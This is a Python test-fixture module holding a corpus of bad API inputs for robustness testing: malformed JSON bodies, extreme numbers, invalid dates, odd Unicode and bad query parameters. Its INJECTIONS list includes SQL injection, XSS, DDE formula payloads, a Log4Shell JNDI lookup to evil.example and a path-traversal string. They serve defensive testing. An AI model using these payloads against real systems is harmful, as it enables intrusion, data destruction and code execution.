"""A corpus of hostile input for the API, by category; tests/test_bad_input.py sends it to every
entity the app knows. ``REFUSED`` values are wrong for the kind of field named; ``ODD`` values
are strange but may be valid, so they must only never cause a server error."""

from __future__ import annotations

import base64

# Values wrong for every field of a kind ("text", "integer", "number", "boolean", "date", "datetime").
REFUSED: dict[str, dict[str, list]] = {
    "types": {
        "text": [12345, True, ["a"], {"a": 1}],
        "integer": ["12", "1.0", True, 1.5, {"a": 1}],
        "number": ["abc", True, {"a": 1}],
        "boolean": ["maybe", 2, [True]],
        "date": [20260101, "today", ["2026-01-01"]],
        "datetime": [1767225600, "now", {"a": 1}],
    },
    "numeric extremes": {
        "integer": [2**63, -(2**63) - 1, 10**40, 1e-300, 1e308, -1.5],
    },
    "dates": {
        "date": ["111111111111111111111111111111", "11111111", "20260101", "1899-12-31", "2201-01-01",
                 "0000-01-01", "9999-12-31", "2026-13-01", "2026-02-30", "2026-1-1", " 2026-01-01",
                 "2026-01-01T10:00:00", "２０２６-01-01", "2026-01-01" + "0" * 10_000],
        "datetime": ["111111111111111111111111111111", "11111111T11", "1899-12-31T23:59:59Z",
                     "2201-01-01T00:00:00Z", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00",
                     "2026-01-01T25:00", "2026-01-01T10:00:00+25:00", "2026-01-01T10:00:00.1234567891234",
                     "2026-W01-1", "2026-001", "2026-01-01T10:00:00" + "9" * 10_000],
    },
    "unicode": {
        "text": ["nul \x00 inside", "pair \udc00\ud800 reversed"],
    },
}

# Raw JSON text for a value that Python's json.dumps cannot write or writes loosely.
RAW_REFUSED = {
    "integer": ["NaN", "Infinity", "-Infinity", "1e309", "1" * 4000, "1.0e999"],
    "number": ["NaN", "Infinity", "-Infinity", "1e309", "-1e309"],
    "text": ['"\\ud800"', '"a\\u0000b"'],
}

# Strange but possibly valid: never a 5xx; when stored, read back exactly as sent.
ODD_TEXT = [
    "\u202eevil.exe\u202c",  # right-to-left override
    "\u200f\u0627\u0644\u0639\u0631\u0628\u064a\u0629",  # RTL mark and Arabic
    "e\u0301\u0301\u0301 combining",
    "Z\u0351\u0352\u0353\u0354\u0355 zalgo",
    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467 emoji and ZWJ",
    "\ufeffbom first",
    "\u200b\u200c\u200d zero width",
    "Ａｌｍａｔｙ fullwidth",
    "\U0010fffd plane 16",
    "Қазақ тілі ӘҒҚҢӨҰҮҺІ",
]
INJECTIONS = [  # the first three go into every text field, all of them into titles and filters
    "'; DROP TABLE core_person; --",
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "{{7*7}} {% raw %}",
    "1' OR '1'='1",
    "\" OR 1=1 --",
    "<img src=x onerror=alert(1)>",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
]
ODD_NUMBERS = {"integer": [0, -0, -1, 2**31, 2**31 - 1, 2**53 + 1],
               "number": [0, -0.0, 1e-300, 0.1 + 0.2, 10**40, -(10**40), 1e308]}

# Whole request bodies that are not a JSON object in UTF-8: (content type, bytes).
BODIES = [
    ("application/json", b""),
    ("application/json", b"{"),
    ("application/json", b'{"name": '),
    ("application/json", b"{name: 1}"),
    ("application/json", b"{'name': 'x'}"),
    ("application/json", b'{"name": "x",}'),
    ("application/json", b"null"),
    ("application/json", b"[]"),
    ("application/json", b'"a string"'),
    ("application/json", b"42"),
    ("application/json", b"NaN"),
    ("application/json", b'{"name": "\xff\xfe"}'),
    ("application/json", b"\xff\xfe{\x00}\x00"),
    ("application/json", b"\xef\xbb\xbf{}"),
    ("application/json", '{"name": "utf-16"}'.encode("utf-16")),
    ("application/json", b'{"name": "x"}' + b"\x00" * 10),
    ("application/json; charset=latin-1", b'{"name": "\xe9"}'),
    ("text/plain", b'{"name": "x"}'),
    ("application/x-www-form-urlencoded", b"name=x"),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--x--\r\n'),
    ("application/xml", b"<name>x</name>"),
    ("application/json", b"[" * 100_000 + b"]" * 100_000),
    ("application/json", b'{"a": ' * 40 + b"1" + b"}" * 40),
    ("application/json", b'{"name": "' + b"x" * 3_000_000 + b'"}'),
]
DEPTHS = [33, 100, 1_000, 50_000]


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


# Query strings a list must refuse (a 400 naming the parameter), by the parameter named.
QUERIES = [
    ("no_such_filter=1", "no_such_filter"),
    ("id__regex=.*", "id__regex"),
    ("limit=0", "limit"),
    ("limit=-1", "limit"),
    ("limit=201", "limit"),
    ("limit=" + "9" * 40, "limit"),
    ("limit=abc", "limit"),
    ("limit=1.5", "limit"),
    ("limit=%EF%BC%91", "limit"),  # a fullwidth digit one
    ("sort=no_such_column", "sort"),
    ("sort=--id", "sort"),
    ("sort=id;DROP TABLE x", "sort"),
    ("after=%00", "after"),
    ("q=%00", "q"),
    ("after=!!!", "after"),
    ("after=" + b64(b"[null, null]"), "after"),
    ("before=" + b64(b"[null, null]"), "before"),
    ("after=" + b64(b'["x", "y"]'), "after"),
    ("after=" + b64(b"[1.5, 1]"), "after"),
    ("after=" + b64(b"[1, 0]"), "after"),
    ("after=" + b64(b"[1, -5]"), "after"),
    ("after=" + b64(b"[1, 1e999]"), "after"),
    ("after=" + b64(b"[1, NaN]"), "after"),
    ("after=" + b64(b"[1, 2, 3]"), "after"),
    ("after=" + b64(b'{"id": 1}'), "after"),
    ("after=" + b64(b"[" * 1400 + b"]" * 1400), "after"),
    ("after=" + b64(b"\xff\xfe\xfd"), "after"),
    ("after=" + "A" * 5000, "after"),
    ("before=" + b64(b"[1, 99999999999999999999999]"), "before"),
]
# Odd but not wrong: the list answers 200 or a 400 naming a parameter, never a server error.
ODD_QUERIES = [
    "limit=1&limit=500",
    "sort=id&sort=no_such_column",
    "after=&before=",
    "q=" + "x" * 10_000,
    "q=' OR 1=1 --",
    "q=%E2%80%AE%F0%9F%98%80",
    "archived=maybe",
    "sort=",
    "limit=",
    "id=abc",
    "id__gte=" + "9" * 40,
    "id__lte=-" + "9" * 40,
    "id=1&id=2",
]
IF_MATCH = ["{}", "abc", 'W/"x"', '"1', "*", '"1", "2"', "-1", '"' + "9" * 40 + '"', "W/", '""', "1 2", "\u00a0\u00a0"]
ACCEPT_LANGUAGE = ["xx-YY", "ru;q=abc", "*", "ru;q=2", "," * 1000, "kk-" + "a" * 8000, "en;q=0, ru;q=0", "\u00e9"]
